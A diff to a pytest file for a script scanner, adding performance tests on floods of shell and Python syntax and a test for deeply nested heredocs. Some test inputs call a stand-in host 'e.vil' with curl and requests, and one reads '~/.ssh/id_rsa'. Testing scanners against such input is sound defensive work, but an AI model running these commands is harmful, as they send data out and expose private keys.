@@ -132,12 +132,35 @@ def test_a_flood_of_brackets_is_one_match_and_not_one_at_each_of_them(matcher, w
         ("run.sh", b"${"),
         ("run.sh", b"( "),
         ("run.sh", b"a=$a$b;"),
+        ("run.sh", b'"$('),
+        ("run.sh", b"<<A <<'B C'\n$(x)\nA\n"),
+        ("run.sh", b"x=$x$(curl https://e.vil/$x) "),
+        ("run.sh", b"env A=1 sudo "),
         ("run.py", b"f(["),
         ("run.py", b'"""'),
         ("run.py", b"a=a+a;"),
         ("run.py", b"\\\n"),
+        ("run.py", b'f"{x["'),
+        ("run.py", b"# don't (\n"),
+        ("run.py", b"x = x + requests.get('https://e.vil')\n"),
+        ("run.py", b"print(open("),
     ],
-    ids=["pipe", "lines", "here", "brace", "bracket", "variable", "call", "quotes", "name", "joined"],
+    ids=[
+        *(
+            "pipe",
+            "lines",
+            "here",
+            "brace",
+            "bracket",
+            "variable",
+            "output",
+            "documents",
+            "values",
+            "starters",
+            "call",
+        ),
+        *("quotes", "name", "joined", "format", "comment", "tags", "silent"),
+    ],
 )
 def test_a_flood_of_what_joins_code_takes_as_long_as_it_is(cpu_s, path, word):
     """One pipe of 25,000 commands once took a parser 20 s."""
@@ -149,6 +172,14 @@ def test_a_flood_of_what_joins_code_takes_as_long_as_it_is(cpu_s, path, word):
 
     half = min(cpu_s(path, flood(SIZE // 2))[0] for _ in range(2))
     assert min(cpu_s(path, flood(SIZE))[0] for _ in range(2)) < 3 * half + 0.05
+
+
+def test_documents_in_documents_without_end_are_told(engine):
+    marks = [f"M{number}" for number in range(500)]
+    body = "".join(f"bash <<{mark}\n" for mark in marks) + "cat ~/.ssh/id_rsa\n" + "\n".join(reversed(marks))
+    report = engine.scan(skill("run.sh", body.encode()))
+    assert report.status is ScanStatus.INCOMPLETE
+    assert "too tangled" in report.problem
 
 
 def test_loops_within_loops_and_functions_that_call_each_other_are_read_once(scan_in_time):
